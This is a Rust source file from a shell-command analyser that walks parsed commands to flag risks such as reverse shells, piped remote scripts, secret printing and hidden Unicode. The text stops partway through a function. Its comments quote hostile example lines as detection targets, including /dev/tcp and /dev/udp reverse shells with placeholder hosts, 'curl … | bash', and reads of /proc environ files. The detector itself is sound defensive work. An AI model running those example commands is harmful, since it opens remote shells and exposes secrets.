//! The walker: parses a command with brush-parser and walks the AST as if running it, keeping
//! the shell state (variables, working directory, functions) and recording facts.

use std::collections::HashMap;
use std::panic::{catch_unwind, AssertUnwindSafe};
use std::rc::Rc;

use brush_parser::ast;

use crate::facts::*;
use crate::model::{Arg, Cwd, State, Stream, Taint, Val};
use crate::paths::{self, Resolved};
use crate::{programs, unicode, wrappers};

/// Deepest nesting followed (`bash -c "bash -c '…'"`, `$( $( … ) )`).
pub(crate) const MAX_DEPTH: u32 = 12;
/// Most simple commands analysed for one input (bounds work on adversarial input).
pub(crate) const MAX_STEPS: usize = 2_000;
/// Longest evidence string, in characters.
pub(crate) const EVIDENCE_MAX: usize = 300;
/// Longest input analysed, in bytes (longer input is cut, and the cut is reported).
pub(crate) const MAX_INPUT: usize = 256 * 1024;

/// One command invocation on its way to a program handler.
#[derive(Debug, Clone)]
pub(crate) struct Inv {
    /// argv, `args[0]` being the command word.
    pub args: Vec<Arg>,
    /// The effective working directory.
    pub cwd: Cwd,
    /// The command as written.
    pub evidence: String,
    /// What the command reads on stdin.
    pub stdin: Stream,
    /// Wrapper chain, outermost first (inherited ones included).
    pub wrappers: Vec<String>,
    /// Environment assignments for this command (`X=1 cmd`, `env X=1 cmd`).
    pub env: Vec<(String, Val)>,
    /// Assignments given to declaration builtins (`export X=1`): name, value, word as written.
    pub decls: Vec<(String, Val, String)>,
}

impl Inv {
    /// The arguments after the command word.
    pub fn rest(&self) -> &[Arg] {
        self.args.get(1..).unwrap_or(&[])
    }

    /// The text of the first [`WORDS_MAX`] arguments after the command word: what the program
    /// tables (cloud verbs, secret printers, service managers) match against. Longer argument
    /// lists are cut there, so a table match costs at most that many words.
    pub fn words(&self) -> Vec<&str> {
        self.rest()
            .iter()
            .take(WORDS_MAX)
            .map(|w| w.text.as_str())
            .collect()
    }
}

/// How many argument words [`Inv::words`] gives.
pub const WORDS_MAX: usize = 64;

struct FnDef {
    name: String,
    body: Rc<ast::FunctionBody>,
    calls: u32,
}

/// Variables only an interactive shell reads (bash(1) PROMPT_COMMAND: run before each primary
/// prompt). Set by a bare assignment in the agent's non-interactive shell they do nothing.
pub(crate) const INTERACTIVE_ONLY: &[&str] = &["PROMPT_COMMAND"];

/// Programs whose reads show no file content (metadata, names, types, counts, digests): a
/// listing of a whole tree handed to them (`find / -type f | xargs stat`) is not a recursive
/// read of that tree's content ([`crate::model::Walk::Tree`]).
const METADATA_READERS: &[&str] = &[
    "b2sum",
    "basename",
    "cksum",
    "dirname",
    "du",
    "file",
    "ls",
    "md5sum",
    "readlink",
    "realpath",
    "sha1sum",
    "sha224sum",
    "sha256sum",
    "sha384sum",
    "sha512sum",
    "stat",
    "sum",
    "test",
    "wc",
];

/// Analysis of one command string.
pub(crate) struct Analyzer<'c> {
    pub ctx: &'c ShellContext,
    pub facts: ShellFacts,
    steps: usize,
    budget_hit: bool,
    depth_hit: bool,
    /// Content known for files written earlier in the same command (`curl -o x`, `echo … > x`).
    pub files: HashMap<String, Stream>,
    /// Folders an archive downloaded earlier in the same command was extracted into (`curl -o
    /// a.zip URL && unzip a.zip -d /tmp/a`, `curl URL | tar x -C d`), with the URL: every file
    /// below them is downloaded content ([`Analyzer::file_content`]).
    pub fetched_dirs: Vec<(String, String)>,
    fn_defs: Vec<FnDef>,
    /// The secret prints each command substitution made, as `(first, end, depth)` of
    /// `facts.secret_prints` ([`Analyzer::printed_substitutions`]).
    pub(crate) subst_prints: Vec<(usize, usize, u32)>,
    /// Indices of secret prints a pipeline handed to a consuming program
    /// ([`Analyzer::capture_handed_values`]): never printed again by an enclosing `echo`.
    handed_prints: Vec<usize>,
    fn_active: Vec<String>,
    next_fd: u32,
    /// The multi-command pipeline being walked, as written (evidence for `curl … | sh`).
    pub pipeline_ev: String,
    /// Use the tokenizer's fast path for simple-command input (off in the differential test).
    /// How many payload-word analyses this analyzer is nested in
    /// ([`crate::programs::embedded::payload_words`]); bounds their recursion.
    pub(crate) payload_level: u32,
    pub(crate) fast_path: bool,
    /// The next simple command's evidence, already rendered for the pipeline's evidence.
    stage_ev: Option<String>,
    /// Set while a command that runs on another host or in a container is analysed (`ssh`,
    /// `docker exec`): its paths go to [`ShellFacts::remote_paths`].
    pub remote: Option<String>,
    /// Set while the statements of a command sent to many computers are analysed
    /// (`Invoke-Command -ComputerName (Get-ADComputer …).Name { … }`): a control they switch
    /// off is switched off across the fleet (`controls.rs`).
    pub(crate) fleet: Option<String>,
    /// The environment of the host, container or cluster [`Analyzer::remote`] names, when its
    /// target says one (`kubectl --context data-prod exec …`, `ssh db.staging.acme.internal`;
    /// `tier.rs`), with the word that decided: the infra and cloud facts of the command run
    /// there start from it.
    pub(crate) outer_tier: Option<(crate::facts::Tier, String)>,
    /// The `host:port` of a `/dev/tcp` or `/dev/udp` file opened for reading and writing
    /// (`exec 5<>/dev/tcp/h/p`): a two-way socket, a reverse shell when a shell or a program
    /// named at run time is wired to it in the same command line (checked in `run_top`).
    pub(crate) tcp_rw: Option<String>,
    /// The `host:port` of a `/dev/tcp` or `/dev/udp` file written to (`>& /dev/udp/h/p`): a
    /// reverse shell when an interactive shell (`-i`) runs in the same command line, whatever
    /// wrapper carries the redirection (`env sh -i >& /dev/udp/h/p`).
    tcp_out: Option<String>,
    /// `DIR/*` globs standing for a listing of the whole tree below `DIR` (`find DIR |
    /// xargs CMD`, [`crate::model::Walk`]): a path fact on one of them acts on every level
    /// below `DIR`, so it is recursive (filtered walks: deletes only, marked `filtered`).
    pub(crate) tree_globs: Vec<(String, crate::model::Walk)>,
    /// Process-substitution bodies of unparseable text analysed so far (at most
    /// [`MAX_SUBST_BODIES`]).
    subst_bodies: u32,
    /// Host folders bind-mounted into the container whose command is being analysed
    /// (`docker run -v ~:/h …`): (path in the container, path on this machine). A path fact
    /// there is also one of this machine's files (`programs::embedded::bind_mounts`).
    pub(crate) mounts: Vec<(String, String)>,
}

/// The reason prefix of a parse error in text that has a command or process substitution
/// (`$(`, `` ` ``, `<(`, `>(` outside single quotes): the policy asks on it (`shell/unparsed`).
pub(crate) const PARSE_ERROR_SUBST: &str = "parse error around a substitution";

/// Most process-substitution bodies of unparseable text one analysis follows.
const MAX_SUBST_BODIES: u32 = 32;

/// Deepest nesting of brackets (`(`, `{`, `[`, so also `$(`, `${`, `$((`) and compound
/// commands (`if`/`case`/`for`/`while`/`until`/`select`) handed to the parsers. brush-parser
/// recurses once or more per level; measured here, about 200 levels overflow a 2 MiB thread
/// stack in a debug build, so 48 leaves a wide margin on any thread.
pub(crate) const MAX_NESTING: usize = 48;

/// True when `s` has more than [`MAX_UNCLOSED_PARENS`] unclosed parentheses, or nests deeper
/// than [`MAX_NESTING`]. Quotes are not interpreted for nesting, so this
/// over-approximates (an unbalanced `(` inside quotes counts).
pub(crate) fn too_deep(s: &str) -> bool {
    if unclosed_parens(s) > MAX_UNCLOSED_PARENS || huge_fd_redirect(s) {
        return true;
    }
    let mut depth = 0usize;
    let mut word = String::new();
    let check_word = |w: &mut String, depth: &mut usize| -> bool {
        match w.as_str() {
            "if" | "case" | "for" | "while" | "until" | "select" => *depth += 1,
            "fi" | "esac" | "done" => *depth = depth.saturating_sub(1),
            _ => {}
        }
        w.clear();
        *depth > MAX_NESTING
    };
    for c in s.chars() {
        match c {
            '(' | '{' | '[' => {
                depth += 1;
                if depth > MAX_NESTING {
                    return true;
                }
            }
            ')' | '}' | ']' => depth = depth.saturating_sub(1),
            _ => {}
        }
        if c.is_ascii_alphabetic() {
            if word.len() < 8 {
                word.push(c);
            } else {
                word.push('_');
            }
        } else if !word.is_empty() && check_word(&mut word, &mut depth) {
            return true;
        }
    }
    !word.is_empty() && check_word(&mut word, &mut depth)
}

/// Most unbalanced `(` or `{` handed to brush-parser. Its backtracking on unclosed brackets is
/// exponential: measured in release on this project's machine, `((((…m&&&…x` took 0.14 s at 18
/// unclosed, 1.5 s at 22 and 6.5 s at 24, and seven unclosed `${`/`{` mixed with other syntax
/// took 0.45 s (found by `cargo fuzz run shell_analyze`). Real commands leave none unclosed;
/// above 4 the fallback tokenizer analyses the command instead.
pub(crate) const MAX_UNCLOSED_PARENS: usize = 4;

/// The larger of (`(` minus `)`) and (`{` minus `}`) over the raw text. Quotes are NOT
/// interpreted: an unclosed quote inside `$(` made a quote-aware count miss the parentheses
/// that brush-parser does see (fifth fuzz find), so this over-approximates on purpose; a
/// command with more than [`MAX_UNCLOSED_PARENS`] unbalanced brackets even inside quotes is
/// analysed by the fallback tokenizer instead. Unclosed braces blow up brace-expansion parsing
/// the same way (third fuzz find: 24 unclosed `{` ran for minutes).
pub(crate) fn unclosed_parens(s: &str) -> usize {
    let (mut paren, mut brace) = (0usize, 0usize);
    for c in s.chars() {
        match c {
            '(' => paren += 1,
            ')' => paren = paren.saturating_sub(1),
            '{' => brace += 1,
            '}' => brace = brace.saturating_sub(1),
            _ => {}
        }
    }
    paren.max(brace)
}

/// True when a run of more than 9 digits stands right before `<` or `>`: brush-parser 0.4
/// parses that file-descriptor number with `unwrap()` and panics on overflow (sixth fuzz find,
/// `666…666> k`). The panic would be caught, but the input goes to the fallback tokenizer
/// instead so no panic (and no panic message on stderr) happens at all.
pub(crate) fn huge_fd_redirect(s: &str) -> bool {
    let mut digits = 0usize;
    for c in s.chars() {
        match c {
            '0'..='9' => digits += 1,
            '<' | '>' if digits > 9 => return true,
            _ => digits = 0,
        }
    }
    false
}

/// Parses a shell program, catching panics inside the parser.
pub(crate) fn parse_program(src: &str) -> Result<ast::Program, String> {
    if unclosed_parens(src) > MAX_UNCLOSED_PARENS || huge_fd_redirect(src) {
        return Err(format!(
            "more than {MAX_UNCLOSED_PARENS} unclosed parentheses or braces, or a file-descriptor number too large to parse; not parsed"
        ));
    }
    if too_deep(src) {
        return Err(format!(
            "nesting deeper than {MAX_NESTING} levels of brackets or compound commands; not parsed"
        ));
    }
    let opts = brush_parser::ParserOptions::default();
    let r = catch_unwind(AssertUnwindSafe(|| {
        let mut p = brush_parser::Parser::new(src.as_bytes(), &opts);
        p.parse_program()
    }));
    match r {
        Ok(Ok(p)) => Ok(p),
        Ok(Err(e)) => Err(e.to_string()),
        Err(_) => Err("the parser failed on this input".to_string()),
    }
}

/// Cuts `s` to at most `max` characters, marking the cut with `…`.
pub(crate) fn truncate(s: &str, max: usize) -> String {
    if s.len() <= max || s.chars().count() <= max {
        return s.to_string();
    }
    let mut out: String = s.chars().take(max).collect();
    out.push('…');
    out
}

/// Whether a rendered simple command sends its standard output into a file (`> f`, `>> f`,
/// `1> f`, `>| f`; not `2> f`, `>&2`, `> /dev/stdout`).
fn stdout_to_file(stage: &str) -> bool {
    stage.split_whitespace().enumerate().any(|(i, w)| {
        let rest = w
            .strip_prefix("1>")
            .or_else(|| w.strip_prefix('>'))
            .map(|r| r.trim_start_matches(['>', '|']));
        let Some(rest) = rest else { return false };
        let target = if rest.is_empty() {
            stage.split_whitespace().nth(i + 1).unwrap_or("")
        } else {
            rest
        };
        !target.is_empty()
            && !target.starts_with('&')
            && !matches!(
                target,
                "/dev/stdout" | "/dev/tty" | "/dev/stderr" | "/dev/fd/1"
            )
    })
}

/// Programs whose output is never data of their own for [`crate::model::Taint::producer`],
/// beside the [`PASS_THROUGH_FILTERS`]: printers pass their words on, counters and compressors
/// their input, and shells are judged by the commands they run.
const NOT_PRODUCERS: &[&str] = &[
    "echo", "printf", "print", "true", "false", "xargs", "wc", "paste", "gzip", "zstd", "xz",
    "bzip2", "nl", "fmt", "iconv", "envsubst", "sh", "bash", "zsh", "dash",
];

/// Text filters that pass what they read on to their output (a printed secret still reaches
/// the terminal through them): grep(1), head(1), tail(1), cat(1), sed(1), awk(1), cut(1),
/// tr(1), sort(1), uniq(1), tee(1), column(1), fold(1), rev(1), less(1), more(1), jq, yq,
/// base64(1), xxd(1), od(1), hexdump(1).
const PASS_THROUGH_FILTERS: &[&str] = &[
    "grep", "egrep", "fgrep", "rg", "head", "tail", "cat", "sed", "awk", "gawk", "cut", "tr",
    "sort", "uniq", "tee", "column", "fold", "rev", "less", "more", "jq", "yq", "base64", "xxd",
    "od", "hexdump",
];

/// Evidence text: [`escape_hidden`] then [`truncate`] to [`EVIDENCE_MAX`] characters, in one
/// allocation for the common short ASCII case.
pub(crate) fn clip(s: &str) -> String {
    if s.len() <= EVIDENCE_MAX && s.is_ascii() {
        return s.to_string();
    }
    truncate(&escape_hidden(s), EVIDENCE_MAX)
}

/// [`clip`] of an owned string: `s` itself in the common short ASCII case (no copy).
pub(crate) fn clip_owned(s: String) -> String {
    if s.len() <= EVIDENCE_MAX && s.is_ascii() {
        return s;
    }
    clip(&s)
}

/// Shows invisible and bidi characters as `\u{…}` so evidence cannot hide them.
pub(crate) fn escape_hidden(s: &str) -> String {
    if s.is_ascii() {
        return s.to_string();
    }
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        if unicode::is_invisible(c) || unicode::is_bidi_control(c) {
            out.push_str(&format!("\\u{{{:04X}}}", c as u32));
        } else {
            out.push(c);
        }
    }
    out
}

fn render_redirect(r: &ast::IoRedirect) -> String {
    match r {
        ast::IoRedirect::HereDocument(fd, hd) => {
            let fd = fd.map(|f| f.to_string()).unwrap_or_default();
            let dash = if hd.remove_tabs { "-" } else { "" };
            format!("{fd}<<{dash}{}", hd.here_end.value)
        }
        other => other.to_string(),
    }
}

fn render_item(item: &ast::CommandPrefixOrSuffixItem) -> String {
    match item {
        ast::CommandPrefixOrSuffixItem::IoRedirect(r) => render_redirect(r),
        ast::CommandPrefixOrSuffixItem::Word(w) => w.value.clone(),
        ast::CommandPrefixOrSuffixItem::AssignmentWord(_, w) => w.value.clone(),
        ast::CommandPrefixOrSuffixItem::ProcessSubstitution(k, s) => format!("{k}({})", s.list),
    }
}

/// A command as written, for evidence (simple commands as [`render_simple`] without the
/// cut; compound ones as brush-parser prints them).
fn render_command(c: &ast::Command) -> String {
    match c {
        ast::Command::Simple(sc) => render_simple_parts(sc),
        other => other.to_string(),
    }
}

fn render_simple_parts(sc: &ast::SimpleCommand) -> String {
    let mut out = String::new();
    let mut push = |s: &str, out: &mut String| {
        if !out.is_empty() {
            out.push(' ');
        }
        out.push_str(s);
    };
    let items = |list: Option<&Vec<ast::CommandPrefixOrSuffixItem>>,
                 out: &mut String,
                 push: &mut dyn FnMut(&str, &mut String)| {
        for item in list.into_iter().flatten() {
            match item {
                ast::CommandPrefixOrSuffixItem::Word(w)
                | ast::CommandPrefixOrSuffixItem::AssignmentWord(_, w) => push(&w.value, out),
                other => push(&render_item(other), out),
            }
        }
    };
    items(sc.prefix.as_ref().map(|p| &p.0), &mut out, &mut push);
    if let Some(w) = &sc.word_or_name {
        push(&w.value, &mut out);
    }
    items(sc.suffix.as_ref().map(|s| &s.0), &mut out, &mut push);
    out
}

/// The simple command as written (here-document bodies left out), for evidence.
pub(crate) fn render_simple(sc: &ast::SimpleCommand) -> String {
    clip_owned(render_simple_parts(sc))
}

impl<'c> Analyzer<'c> {
    pub(crate) fn new(ctx: &'c ShellContext) -> Self {
        Analyzer {
            ctx,
            facts: ShellFacts::default(),
            steps: 0,
            budget_hit: false,
            depth_hit: false,
            subst_bodies: 0,
            mounts: Vec::new(),
            files: HashMap::new(),
            fetched_dirs: Vec::new(),
            fn_defs: Vec::new(),
            subst_prints: Vec::new(),
            handed_prints: Vec::new(),
            fn_active: Vec::new(),
            next_fd: 63,
            pipeline_ev: String::new(),
            fast_path: true,
            stage_ev: None,
            remote: None,
            fleet: None,
            outer_tier: None,
            tcp_rw: None,
            tcp_out: None,
            tree_globs: Vec::new(),
            payload_level: 0,
        }
    }

    /// The state a fresh shell starts with.
    pub(crate) fn initial_state(&self) -> State {
        let cwd_abs = self.ctx.cwd.starts_with('/');
        let cwd = Cwd {
            text: if cwd_abs {
                paths::normalize(&self.ctx.cwd)
            } else {
                "$PWD".to_string()
            },
            known: cwd_abs,
        };
        let mut vars = HashMap::new();
        vars.insert("HOME".to_string(), Val::known(self.ctx.home.clone()));
        if cwd.known {
            vars.insert("PWD".to_string(), Val::known(cwd.text.clone()));
        }
        vars.insert("IFS".to_string(), Val::known(" \t\n"));
        State {
            vars: Rc::new(vars),
            cwd,
            oldpwd: None,
            dirstack: Vec::new(),
            functions: Rc::new(HashMap::new()),
            aliases: Rc::new(HashMap::new()),
            depth: 0,
            wrappers: Vec::new(),
            captured: false,
        }
    }

    /// Runs a whole command for what it leaves in files: every file it writes with the content
    /// the analysis knows ([`Analyzer::files`]), for `crate::written_files`. Input longer than
    /// 256 KiB gives nothing.
    pub(crate) fn run_for_files(mut self, command: &str) -> Vec<(String, Stream)> {
        if command.len() > MAX_INPUT {
            return Vec::new();
        }
        let mut st = self.initial_state();
        self.run_source(command, &mut st, Stream::default());
        let mut out: Vec<(String, Stream)> = self.files.into_iter().collect();
        out.sort_by(|a, b| a.0.cmp(&b.0));
        out
    }

    /// Analyses a whole command and returns the facts.
    pub(crate) fn run_top(mut self, command: &str) -> ShellFacts {
        let mut command = command;
        if command.len() > MAX_INPUT {
            let mut cut = MAX_INPUT;
            while !command.is_char_boundary(cut) {
                cut -= 1;
            }
            self.limit_reached(
                "command longer than 256 KiB: only the first 256 KiB were analysed",
                &truncate(command, 80),
            );
            command = command.get(..cut).unwrap_or("");
        }
        self.scan_hidden_chars(command);
        let mut st = self.initial_state();
        self.run_source(command, &mut st, Stream::default());
        self.run_uncalled_functions(&st);
        crate::persist::judge_startup_writes(&mut self);
        self.socket_shell(command);
        self.text_shapes(command);
        if crate::windows::is_windows_line(command) {
            // cmd's switches are no paths (`del /q *.log`, `rd /s /q build`): the POSIX
            // reading's `/q`, `/s` operands are dropped, and the line is read as Windows
            // syntax too (both readings' facts are kept: which shell runs it is not known).
            self.facts.paths.retain(|p| !windows_switch_path(&p.path));
            // PowerShell's backtick escape (`Re`move-Item`) is an unterminated command
            // substitution to bash, which then runs nothing of a one-line command: the POSIX
            // reading's guesses about it (a program from a substitution, the parse error) are
            // dropped; its paths stay, and the Windows reading sees the escape.
            let backquote = self
                .facts
                .unanalysable
                .iter()
                .any(|u| u.reason.contains("unterminated backquote"));
            if backquote && !command.contains('\n') {
                self.facts
                    .unanalysable
                    .retain(|u| !u.evidence.contains('`'));
                self.facts.obfuscation.retain(|o| !o.evidence.contains('`'));
            }
            programs::windows_line(&mut self, command);
        }
        finish(self.facts)
    }

    /// A reverse or bind shell carried in the command's text as data (`crate::revshell`): sent
    /// to a server, stored, written into a file, or a snippet with no interpreter in front. Text
    /// that is only printed or searched for (every command a [`programs::TEXT_ONLY`] program,
    /// nothing written, deleted or uploaded: `grep -r 'bash -i >& /dev/tcp' rules/`, `git
    /// commit -m …`) is not; nor is a payload's own analysis (`payload_level` > 0).
    fn text_shapes(&mut self, command: &str) {
        if self.payload_level > 0 || self.facts.has_reverse_shell() {
            return;
        }
        let Some(hit) = crate::revshell::scan(command) else {
            return;
        };
        let quoted_only = !self.facts.commands.is_empty()
            && self.facts.commands.iter().all(|c| {
                let p = c.program.as_str();
                // The shells and wrappers around the text's program run what the walk
                // already followed (`bash -c "grep …"`, `eval`, `timeout 5 grep …`).
                programs::TEXT_ONLY.contains(&p)
                    || programs::is_shell(p)
                    || matches!(
                        p,
                        "eval" | "env" | "command" | "nice" | "timeout" | "true" | "cd"
                    )
            })
            && self.facts.uploads.is_empty()
            && !self.facts.paths.iter().any(|p| {
                matches!(p.access, Access::Write | Access::Create | Access::Delete)
                    && !paths::is_pseudo_device(&p.path)
            });
        if quoted_only {
            return;
        }
        let ev = format!("{} in the text: {}", hit.shape, truncate(command, 260));
        self.remote_exec("reverse_shell", &hit.program, hit.peer, &ev);
    }

    /// A two-way `/dev/tcp` socket (`exec 5<>/dev/tcp/h/p`) and, in the same command line, a
    /// shell or a program whose name is only known at run time (`sh <&5 >&5`, `while read l;
    /// do $l >&5; done`): the socket's peer drives a shell (bash(1) "REDIRECTION").
    fn socket_shell(&mut self, command: &str) {
        let (rw, out) = (self.tcp_rw.take(), self.tcp_out.take());
        if self.facts.has_reverse_shell() {
            return;
        }
        let interactive = |c: &crate::facts::CommandFact| {
            programs::is_shell(&c.program) && c.argv.iter().skip(1).any(|w| w == "-i")
        };
        let (target, shell) = match (rw, out) {
            (Some(t), _) => {
                // A shell given its code with `-c` runs that code, not what the socket sends:
                // it carries the command line (`bash -c 'exec 3<>/dev/tcp/h/80; …; cat <&3'`);
                // a shell it runs that reads the socket is a command of its own here.
                let carrier = |c: &crate::facts::CommandFact| {
                    c.argv.iter().skip(1).any(|w| {
                        w.len() > 1 && w.starts_with('-') && !w.starts_with("--") && w.contains('c')
                    })
                };
                let c = self.facts.commands.iter().find(|c| {
                    (programs::is_shell(&c.program) && !carrier(c))
                        || c.argv.first().is_some_and(|w| w.starts_with('$'))
                });
                (t, c)
            }
            (None, Some(t)) => (t, self.facts.commands.iter().find(|c| interactive(c))),
            (None, None) => return,
        };
        if let Some(c) = shell {
            let prog = c.program.clone();
            self.remote_exec(
                "reverse_shell",
                &prog,
                Some(target),
                &truncate(command, 300),
            );
        }
    }

    fn scan_hidden_chars(&mut self, command: &str) {
        let mut bidi = false;
        let mut invisible = false;
        for tok in command.split_whitespace() {
            let has_bidi = tok.chars().any(unicode::is_bidi_control);
            let has_inv = tok.chars().any(unicode::is_invisible);
            if has_bidi && !bidi {
                bidi = true;
                self.obfuscation("bidi_control", None, &escape_hidden(tok));
            }
            if has_inv && !invisible {
                invisible = true;
                let clean: String = tok.chars().filter(|c| !unicode::is_invisible(*c)).collect();
                self.obfuscation("invisible_char", Some(clean), &escape_hidden(tok));
            }
        }
    }

    // ----- budget -------------------------------------------------------------------------

    fn step(&mut self) -> bool {
        self.steps += 1;
        if self.steps > MAX_STEPS {
            if !self.budget_hit {
                self.budget_hit = true;
                self.limit_reached(
                    "analysis budget exhausted (more than 2000 commands); the rest was not analysed",
                    "",
                );
            }
            return false;
        }
        true
    }

    // ----- sources ------------------------------------------------------------------------

    /// Parses and walks shell source at the state's depth. A parse error is recorded and the
    /// fallback tokeniser gives best-effort facts.
    pub(crate) fn run_source(&mut self, src: &str, st: &mut State, stdin: Stream) -> Stream {
        if st.depth > MAX_DEPTH {
            if !self.depth_hit {
                self.depth_hit = true;
                self.limit_reached(
                    "nesting deeper than 12 levels was not followed",
                    &truncate(src, 120),
                );
            }
            return Stream::default();
        }
        if self.budget_hit {
            return Stream::default();
        }
        // `/proc/<pid>/environ` copied from a manual: the slot is part of the path, at every
        // level (`bash -c '…'`, `eval`).
        let quoted = crate::placeholder::quote_slots(src);
        let src: &str = &quoted;
        let parsed = match self
            .fast_path
            .then(|| crate::fallback::fast_program(src))
            .flatten()
        {
            Some(prog) => Ok(prog),
            None => parse_program(src),
        };
        if let Some(rest) = after_prompt(src) {
            // A command pasted with its prompt (`user@host:~$ curl … | bash`, `mysql> \\! …`):
            // what follows the prompt is read as the command too.
            let mut sub = st.clone();
            sub.depth += 1;
            self.run_source(rest, &mut sub, Stream::default());
        }
        match parsed {
            Ok(prog) => self.walk_program(&prog, st, stdin),
            Err(e) => {
                let ev = truncate(&escape_hidden(src), 200);
                let limit = crate::fallback::is_limit_error(&e);
                if limit {
                    // Nesting past the parser's limit was never parsed: a limit, like the
                    // analyser's own depth, that can be reached on purpose.
                    self.limit_reached(&format!("parse error: {e}"), &ev);
                } else if crate::fallback::has_substitution(src) {
                    // Unparseable text around a command or process substitution: what the
                    // substitution runs may be hidden from the fallback (`cat <(<(CMD))`).
                    self.unanalysable(&format!("{PARSE_ERROR_SUBST}: {e}"), &ev);
                } else {
                    self.unanalysable(&format!("parse error: {e}"), &ev);
                }
                let out = crate::fallback::run(self, src, st, stdin);
                self.string_payloads(src, st);
                // Text past the parser's limit is asked about as a whole; below it, each
                // process substitution's body is analysed, at most MAX_SUBST_BODIES per
                // analysis (the fallback may reach the same body again: the bound keeps the
                // work linear).
                if !limit {
                    for body in crate::fallback::substitution_bodies(src) {
                        if self.subst_bodies >= MAX_SUBST_BODIES {
                            break;
                        }
                        self.subst_bodies += 1;
                        let mut sub = st.clone();
                        sub.depth += 1;
                        self.run_source(&body, &mut sub, Stream::default());
                    }
                }
                out
            }
        }
    }

    /// Text the shell cannot parse is often code of another language or an injection payload
    /// (`os.system("…")`, `select sys_exec('…')`, `');os.execute("…")--`): a string literal in
    /// it that starts with a known program is a command something will run, and is analysed
    /// as one (a lower bound; the literal is never run here). At most [`MAX_PAYLOADS`]
    /// literals per source.
    fn string_payloads(&mut self, src: &str, st: &State) {
        for lit in quoted_literals(src).into_iter().take(MAX_PAYLOADS) {
            let cmd =
                lit.trim_start_matches(|c: char| c.is_whitespace() || matches!(c, ';' | '&' | '|'));
            let first = cmd.split_whitespace().next().unwrap_or("");
            let prog = crate::paths::basename(first);
            if cmd.len() < 4
                || !cmd.contains(char::is_whitespace)
                || !(programs::is_known_program(prog) || programs::is_shell(prog))
            {
                continue;
            }
            let mut sub = st.clone();
            sub.depth += 1;
            self.run_source(cmd, &mut sub, Stream::default());
        }
    }

    pub(crate) fn walk_program(
        &mut self,
        prog: &ast::Program,
        st: &mut State,
        stdin: Stream,
    ) -> Stream {
        let mut out = Stream::text("");
        for cc in &prog.complete_commands {
            let o = self.walk_list(cc, st, stdin.clone());
            out = out.concat(&o);
        }
        out
    }

    pub(crate) fn walk_list(
        &mut self,
        list: &ast::CompoundList,
        st: &mut State,
        stdin: Stream,
    ) -> Stream {
        let mut out = Stream::text("");
        for item in &list.0 {
            let o = self.walk_and_or(&item.0, st, stdin.clone());
            out = out.concat(&o);
        }
        out
    }

    fn walk_and_or(&mut self, aol: &ast::AndOrList, st: &mut State, stdin: Stream) -> Stream {
        let mut out = self.walk_pipeline(&aol.first, st, stdin.clone());
        for next in &aol.additional {
            let p = match next {
                ast::AndOr::And(p) | ast::AndOr::Or(p) => p,
            };
            let o = self.walk_pipeline(p, st, stdin.clone());
            out = out.concat(&o);
        }
        out
    }

    pub(crate) fn walk_pipeline(
        &mut self,
        p: &ast::Pipeline,
        st: &mut State,
        stdin: Stream,
    ) -> Stream {
        if p.seq.len() == 1 {
            if let Some(cmd) = p.seq.first() {
                return self.walk_command(cmd, st, stdin);
            }
        }
        // Each stage of a multi-command pipeline runs in a subshell (bash without lastpipe).
        let stages: Vec<String> = p.seq.iter().map(render_command).collect();
        let last_to_file = stages.last().is_some_and(|s| stdout_to_file(s));
        let ev = clip_owned(stages.join(" | "));
        let saved = std::mem::replace(&mut self.pipeline_ev, ev);
        let mut cur = stdin;
        // Where each stage's facts start: (secret prints, commands).
        let mut starts: Vec<(usize, usize)> = Vec::with_capacity(p.seq.len() + 1);
        for ((i, cmd), rendered) in p.seq.iter().enumerate().zip(stages) {
            let mut sub = st.clone();
            if i > 0 {
                cur.piped = true;
            }
            if matches!(cmd, ast::Command::Simple(_)) {
                self.stage_ev = Some(rendered);
            }
            starts.push((self.facts.secret_prints.len(), self.facts.commands.len()));
            cur = self.walk_command(cmd, &mut sub, cur);
        }
        starts.push((self.facts.secret_prints.len(), self.facts.commands.len()));
        self.capture_handed_values(&starts, last_to_file);
        self.pipeline_ev = saved;
        cur
    }

    /// A secret printed into a pipe whose next stage is a program that consumes it (`echo
    /// "$TOKEN" | gh auth login --with-token`, `aws ecr get-login-password | docker login
    /// --password-stdin`, `kubectl get secret x -o yaml | kubectl apply -f -`, `| wc -c`) is
    /// handed on, not shown: captured. Into a text filter that passes it on to
    /// the terminal ([`PASS_THROUGH_FILTERS`]) or a network client (judged by
    /// `shell/secret-print-sent`) it stays a print. `starts[i]` is where stage `i`'s secret
    /// prints and commands begin; the last entry is the end.
    /// Text filters in between pass it on, so the first later stage that is not one decides;
    /// when only filters follow, the print is handed on only if the last stage writes into a
    /// file (`printf '%s' "$KUBECONFIG_DATA" | base64 -d > kubeconfig`, `last_to_file`).
    fn capture_handed_values(&mut self, starts: &[(usize, usize)], last_to_file: bool) {
        for i in 0..starts.len().saturating_sub(2) {
            let (p0, _) = starts[i];
            let (p1, _) = starts[i + 1];
            if p0 == p1 {
                continue;
            }
            let mut handed = last_to_file;
            for j in i + 1..starts.len() - 1 {
                let (c1, c2) = (starts[j].1, starts[j + 1].1);
                let Some(next) = self.facts.commands.get(c1..c2).and_then(|c| c.first()) else {
                    handed = false;
                    break;
                };
                let next = next.program.as_str();
                if PASS_THROUGH_FILTERS.contains(&next) {
                    continue;
                }
                handed = !(crate::programs::exfil::URL_CLIENTS.contains(&next)
                    || crate::revshell::NET_CLIENTS.contains(&next));
                break;
            }
            if handed {
                for p in self.facts.secret_prints.iter_mut().take(p1).skip(p0) {
                    p.captured = true;
                }
                self.handed_prints.extend(p0..p1);
            }
        }
    }

    /// A secret captured by a command substitution that is an argument of a printer (`echo
    /// "$s=$(az keyvault secret show … --query value -o tsv)"`, `printf '%s\n' "$(vault kv get
    /// …)"`, `keys.rs` `VALUE_PRINTERS`) is printed again where the agent reads it, unless the
    /// printer itself is captured or writes into a file: the prints since `from` are not
    /// captured (h-cloud27; the pipeline's consumers still hand them on,
    /// [`Analyzer::capture_handed_values`]).
    fn printed_substitutions(
        &mut self,
        from: usize,
        program: Option<&str>,
        st: &State,
        stdout_file: Option<&str>,
    ) {
        let printer = program.is_some_and(|p| crate::programs::keys::VALUE_PRINTERS.contains(&p));
        let to_agent = stdout_file.is_none_or(|f| {
            matches!(
                f,
                "/dev/stdout" | "/dev/stderr" | "/dev/tty" | "/dev/fd/1" | "/dev/fd/2"
            )
        });
        if !printer || st.captured || !to_agent {
            return;
        }
        // only what a substitution written in this command's words prints itself: not a
        // deeper one's (`echo "$( [ -n "$(gh auth token)" ] && echo yes)"`), nor a print a
        // pipeline inside it handed to a consumer (`echo "$(vault kv get x | sha256sum)"`)
        let own = st.depth + 1;
